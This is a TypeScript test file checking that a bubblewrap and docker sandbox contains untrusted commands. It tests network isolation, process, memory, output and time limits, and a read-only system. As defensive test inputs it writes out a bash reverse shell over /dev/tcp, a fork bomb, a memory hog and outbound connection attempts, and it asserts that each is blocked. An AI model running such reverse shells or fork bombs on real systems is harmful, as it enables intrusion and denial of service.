// Real bubblewrap runs (Debian bubblewrap, installed by hack/system-deps.sh). These call the sandbox
// directly, so they show containment even for what a policy allows: no network, bounded processes,
// memory, output and time, read-only system, only the workspace writable.
import { spawnSync } from 'node:child_process';
import { createServer, type Server } from 'node:net';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeWorkspace, policyFor, processesOf, type TestWorkspace } from '../../test/support/pep.ts';
import { bwrapArgs, dockerArgs, runSandboxed, TIMEOUT_MARKER, TRUNCATED_MARKER } from './sandbox.ts';

let ws: TestWorkspace;
let listener: Server;
let port = 0;
let connections = 0;

beforeAll(async () => {
  // Fail with the reason, not a cryptic test failure, when the machine cannot run bubblewrap at all.
  const probe = spawnSync('bwrap', ['--unshare-all', '--die-with-parent', '--ro-bind', '/', '/', 'true'], { encoding: 'utf8' });
  if (probe.error || probe.status !== 0) {
    throw new Error(`bubblewrap cannot create namespaces here (install bubblewrap via hack/system-deps.sh; unprivileged user namespaces must be allowed): ${probe.error?.message ?? probe.stderr}`);
  }
  ws = makeWorkspace();
  listener = createServer((s) => {
    connections++;
    s.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', () => resolve()));
  port = (listener.address() as { port: number }).port;
});
afterAll(async () => {
  await new Promise<void>((resolve) => listener.close(() => resolve()));
  ws.cleanup();
});

const run = (command: string, limits = {}) => runSandboxed(policyFor(ws.dir, { timeoutSeconds: 10, ...limits }), { command, workdir: '/workspace' });
// The fork bomb runs as its own uid so that RLIMIT_NPROC and the leftover check see only its processes
// (other test files run sandboxes as SANDBOX_UID concurrently).
const BOMB_UID = 65500;

describe('bubblewrap sandbox', () => {
  it('runs a command in the workspace with a read-only system and no host secrets', async () => {
    const r = await run('echo hi > f && cat f && hostname && (touch /usr/x 2>&1 || true) && ls /etc/passwd 2>&1; echo $HOME');
    expect(r.backend).toBe('bubblewrap');
    expect(r.stdout).toContain('hi\npep-sandbox\n');
    expect(r.stdout).toMatch(/touch: cannot touch '\/usr\/x': Read-only file system/);
    expect(r.stdout).toMatch(/ls: cannot access '\/etc\/passwd': No such file or directory/);
    expect(r.stdout.trim().endsWith('/workspace')).toBe(true);
    expect(readFileSync(path.join(ws.dir, 'f'), 'utf8')).toBe('hi\n');
  });

  it('has its own PID namespace: only the sandbox is visible', async () => {
    const r = await run('ls /proc | grep -c "^[0-9]"');
    expect(Number(r.stdout.trim())).toBeLessThan(6);
  });

  it('a reverse shell cannot connect out, even though bash and /dev/tcp are allowed here', async () => {
    const before = connections;
    const r = await run(`bash -c 'bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1'; echo rc=$?; bash -c 'exec 3<>/dev/tcp/1.1.1.1/80' 2>&1; echo rc=$?`);
    expect(r.stdout).toContain('rc=1');
    expect(r.stderr + r.stdout).toMatch(/Connection refused|Network is unreachable/);
    expect(connections).toBe(before);
  });

  it('an outbound connection fails (host loopback and the outside world)', async () => {
    const before = connections;
    const r = await run(
      `python3 -c "import socket\nfor a in (('127.0.0.1', ${port}), ('1.1.1.1', 443)):\n  try:\n    socket.create_connection(a, 2); print('connected', a)\n  except OSError as e: print('failed', a, e.errno)"`,
    );
    expect(r.stdout).not.toContain('connected');
    expect(r.stdout.match(/failed/g)?.length).toBe(2);
    expect(connections).toBe(before);
  });

  it('contains a fork bomb (process limit, PID namespace torn down afterwards)', async () => {
    // Its uid cannot enter the (0700) workspace, so it starts in the sandbox's /tmp.
    const policy = policyFor(ws.dir, { timeoutSeconds: 10, pids: 64 });
    const r = await runSandboxed(policy, { command: 'f(){ f|f& }; f; sleep 1; echo survived', workdir: '/tmp' }, { uid: BOMB_UID, gid: BOMB_UID });
    expect(r.timedOut).toBe(false);
    expect(r.stderr).toMatch(/fork|Resource temporarily unavailable/i);
    if (process.getuid?.() === 0) {
      // The kernel kills the namespace's processes when its init exits; give the teardown a moment.
      let left = processesOf(BOMB_UID);
      for (let i = 0; i < 50 && left.length > 0; i++) {
        await new Promise((r) => setTimeout(r, 100));
        left = processesOf(BOMB_UID);
      }
      expect(left).toEqual([]);
    }
  });

  it('contains a memory hog (address-space limit)', async () => {
    const r = await run('python3 -c "x = bytearray(2 * 1024 * 1024 * 1024)"', { memoryMb: 256 });
    expect(r.exitCode).not.toBe(0);
    expect(r.stderr).toContain('MemoryError');
  });

  it('caps infinite output with the seed truncation marker', async () => {
    const r = await run('yes', { stdoutMaxBytes: 4096 });
    expect(r.stdout.length).toBe(4096 + TRUNCATED_MARKER.length);
    expect(r.stdout.endsWith(TRUNCATED_MARKER)).toBe(true);
    expect(r.timedOut).toBe(false);
  });

  it('kills at the wall-clock timeout with the seed marker and exit code 124', async () => {
    const started = Date.now();
    const r = await run('sleep 60', { timeoutSeconds: 1 });
    expect(r.timedOut).toBe(true);
    expect(r.exitCode).toBe(124);
    expect(r.stderr.endsWith(TIMEOUT_MARKER)).toBe(true);
    expect(Date.now() - started).toBeLessThan(10_000);
  });

  it('limits file size', async () => {
    const r = await run('head -c 3000000 /dev/zero > big; echo rc=$?', { fileSizeMb: 1 });
    expect(r.stdout).not.toContain('rc=0');
  });

  it('builds the bubblewrap arguments the issue asks for', () => {
    const args = bwrapArgs(policyFor(ws.dir), { command: 'ls', workdir: '/workspace' });
    for (const a of ['--unshare-all', '--die-with-parent', '--new-session', '--clearenv']) expect(args).toContain(a);
    expect(args.join(' ')).toContain('--ro-bind /usr /usr');
    expect(args.join(' ')).toContain('--tmpfs /tmp');
    expect(args.join(' ')).toContain(`--bind ${ws.dir} /workspace`);
    expect(args.slice(-4)).toEqual(['--', '/bin/sh', '-c', 'ls']);
  });
});

describe('docker backend', () => {
  it('keeps the seed docker run arguments exactly', () => {
    const p = policyFor('/workspace');
    p.sandbox = { backend: 'docker', readOnlyBinds: [], docker: { image: 'alinux3:latest' } };
    expect(dockerArgs(p, { command: 'ls -la', workdir: '/workspace/run' }, 1000, 1001)).toEqual([
      'run', '--rm', '--init', '--read-only', '--network', 'none', '--cap-drop', 'ALL', '--security-opt', 'no-new-privileges',
      '--pids-limit', '128', '--memory', '512m', '--cpus', '1',
      '--tmpfs', '/tmp:rw,noexec,nosuid,nodev,size=64m', '--tmpfs', '/run:rw,noexec,nosuid,nodev,size=16m',
      '--user', '1000:1001', '-v', '/workspace:/workspace:rw', '--workdir', '/workspace/run', 'alinux3:latest', '/bin/sh', '-lc', 'ls -la',
    ]);
  });
});
